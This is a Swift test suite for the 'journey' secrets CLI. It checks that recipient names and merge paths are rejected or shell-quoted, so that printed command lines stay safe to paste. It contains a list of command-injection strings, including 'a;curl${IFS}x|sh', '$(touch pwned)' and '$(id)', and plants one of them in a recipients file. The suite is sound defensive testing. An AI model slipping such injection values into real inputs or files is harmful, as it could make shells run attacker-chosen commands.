import Diagnostics
import Foundation
import Sealing
import TestSupport
import Testing

/// Command lines journey prints for pasting into a shell (the `journey keys add …` line a
/// newcomer sends, the fixes in messages) hold names from command lines, repositories and
/// merges: none of them may turn into a command for whoever pastes the line.
@Suite("Printed command lines")
struct PastedCommandTests {
    /// Names that run something, or split into more words, when pasted unquoted.
    static let hostileNames = [
        "a;curl${IFS}x|sh", "$(touch pwned)", "`touch pwned`", "a b", "a'b", "a\"b", "a&&touch pwned", "a|sh", "a>pwned", "../escape", "x/y",
        "-rf", ".hidden", "ünïcode", "a\u{1b}[2Jb", "a\nb", "", String(repeating: "a", count: 65),
    ]

    @Test func everyCommandThatTakesARecipientNameRefusesOneOutsideTheRuleAndWritesNothing() throws {
        let fixture = try CLIFixture()
        let recipients = fixture.root + "/secrets/recipients.yaml"
        let before = try Data(contentsOf: URL(fileURLWithPath: recipients))
        let keysBefore = try FileManager.default.contentsOfDirectory(atPath: fixture.keyFolder).sorted()
        let publicKey = PrivateKey.generate().publicKey.text
        for name in Self.hostileNames {
            // After `--`, so that "-rf" reaches the name rule instead of the option parser.
            for arguments in [["keys", "generate", "--", name], ["keys", "request", "--", name], ["keys", "add", "--", name, publicKey]] {
                let result = try fixture.run(arguments)
                #expect(result.exitCode == 2, "\(arguments): \(result.allOutput)")
                #expect(result.stderrText.contains("invalid recipient name"), "\(arguments): \(result.allOutput)")
                #expect(!result.stdoutText.contains("journey keys add"), "\(arguments)")
            }
        }
        #expect(try Data(contentsOf: URL(fileURLWithPath: recipients)) == before)
        #expect(try FileManager.default.contentsOfDirectory(atPath: fixture.keyFolder).sorted() == keysBefore)
        #expect(!FileManager.default.fileExists(atPath: fixture.root + "/pwned"))
        // What the rule allows: people, runners, e-mail addresses.
        for name in ["ada.lovelace@example.com", "ci-runner", "Bob_2", "7"] {
            try fixture.expectSuccess(["keys", "add", name, PrivateKey.generate().publicKey.text])
        }
        try fixture.expectSuccess(["keys", "request", String(repeating: "b", count: 64)])
    }

    @Test func aRecipientsFileFromARepositoryWithAHostileNameIsRefusedWithItsLine() throws {
        let fixture = try CLIFixture()
        try fixture.expectSuccess(["secret", "add", "api-token"], stdin: "value-7d1")
        let recipients = fixture.root + "/secrets/recipients.yaml"
        let original = try String(contentsOfFile: recipients, encoding: .utf8)
        let planted = original + "  - name: \"a;curl${IFS}x|sh\"\n    key: \(PrivateKey.generate().publicKey.text)\n"
        try planted.write(toFile: recipients, atomically: true, encoding: .utf8)
        let line = planted.split(separator: "\n", omittingEmptySubsequences: false).firstIndex { $0.contains("curl") }! + 1
        for arguments in [["keys", "list"], ["secret", "list"], ["secret", "add", "other"], ["keys", "generate", "bob"], ["check"]] {
            let result = try fixture.run(arguments, stdin: "v")
            #expect(result.exitCode != 0, "\(arguments): \(result.allOutput)")
            #expect(result.allOutput.contains("secrets/recipients.yaml:\(line)"), "\(arguments): \(result.allOutput)")
            #expect(result.allOutput.contains("invalid recipient name"), "\(arguments): \(result.allOutput)")
        }
        #expect(!FileManager.default.fileExists(atPath: fixture.keyPath("bob")))
    }

    /// The line `keys generate` and `keys request` print, run by a shell: exactly the words
    /// journey meant, for a name with every character the rule allows and an environment.
    @Test func theAddLineIsExactlyTheWordsItMeansWhenAShellRunsIt() throws {
        let fixture = try CLIFixture()
        try fixture.expectSuccess(["env", "add", "prod-eu_1"])
        try fixture.expectSuccess(["keys", "add", "alice", PrivateKey.generate().publicKey.text, "--env", "prod-eu_1"])
        try fixture.expectSuccess(["secret", "add", "api-token", "--env", "prod-eu_1"], stdin: "v")
        let name = "Ada.Lovelace-2_x@example.com"
        let requested = try fixture.expectSuccess(["keys", "request", name, "--env", "prod-eu_1"]).stdoutText
        let generated = try fixture.expectSuccess(["keys", "generate", "g.\(name)", "--env", "prod-eu_1", "--output", fixture.scratch.path("g.key")])
        let generatedLine = try #require(generated.stdoutText.split(separator: "\n").first { $0.hasPrefix("  journey keys add") })
        for (line, expectedName) in [(requested.trimmingCharacters(in: .newlines), name), (String(generatedLine.dropFirst(2)), "g.\(name)")] {
            let words = try Subprocess.run(
                "/bin/sh", ["-c", "journey() { printf '%s\\n' \"$@\" -- ; }; " + line], environment: [:], currentDirectory: fixture.root)
            let printed = words.stdoutText.split(separator: "\n").map(String.init)
            #expect(printed.count == 13, "\(line) → \(printed)")
            #expect(Array(printed.prefix(3)) == ["keys", "add", expectedName], "\(line)")
            #expect(
                printed[3].hasPrefix(PublicKey.textPrefix)
                    && Array(printed[4...]) == ["--env", "prod-eu_1", "--", "secret", "rekey", "--all", "--env", "prod-eu_1", "--"])
        }
    }

    /// A sealed file's path comes from the repository being merged: the `secret resolve` line
    /// the merge driver prints keeps it one word.
    @Test func theMergeDriverQuotesTheNameAndEnvironmentFromThePathInItsFix() throws {
        let fixture = try CLIFixture()
        let scratch = fixture.scratch
        let base = try scratch.write("", to: "base")
        let ours = try scratch.write("format: x\n", to: "ours")
        let theirs = try scratch.write("format: y\n", to: "theirs")
        let hostile = "$(touch pwned)`touch pwned`;touch pwned"
        let result = try fixture.run(["hook", "merge-file", base, ours, theirs, "secrets/e$(id)/\(hostile).sealed"])
        #expect(result.exitCode == 1, "\(result.allOutput)")
        let message = result.stderrText
        let prefix = "'journey secret resolve "
        let start = try #require(message.range(of: prefix)?.upperBound, "\(message)")
        let end = try #require(message.range(of: " --ours'", range: start..<message.endIndex)?.lowerBound)
        let words = try Subprocess.run(
            "/bin/sh", ["-c", "printf '%s\\n' " + message[start..<end]], environment: [:], currentDirectory: scratch.path(""))
        #expect(words.stdoutText == "\(hostile)\n--env\ne$(id)\n", "\(message)")
        #expect(!FileManager.default.fileExists(atPath: scratch.path("pwned")))
    }

    @Test func shellWordsReadBackUnchanged() throws {
        let samples = Self.hostileNames + ["plain", "it's", "'", "''", "\\", "*", "~root", "=ls", "a\tb", "$HOME", "!!", "#x", "{a,b}", "[ab]", "%1"]
        let script = samples.map { "printf '%s\\0' " + ShellWord.quoted($0) }.joined(separator: "; ")
        let folder = try ScratchFolder(label: "shell-word")
        for shell in ["/bin/sh", "/bin/bash"] where FileManager.default.isExecutableFile(atPath: shell) {
            let result = try Subprocess.run(shell, ["-c", script], environment: ["HOME": "/nonexistent"], currentDirectory: folder.path(""))
            #expect(result.stdoutText.split(separator: "\0", omittingEmptySubsequences: false).dropLast().map(String.init) == samples, "\(shell)")
        }
        #expect(!FileManager.default.fileExists(atPath: folder.path("pwned")))
        #expect(ShellWord.quoted("payments-api-key") == "payments-api-key")
        #expect(ShellWord.quoted("ada@example.com") == "ada@example.com")
    }
}
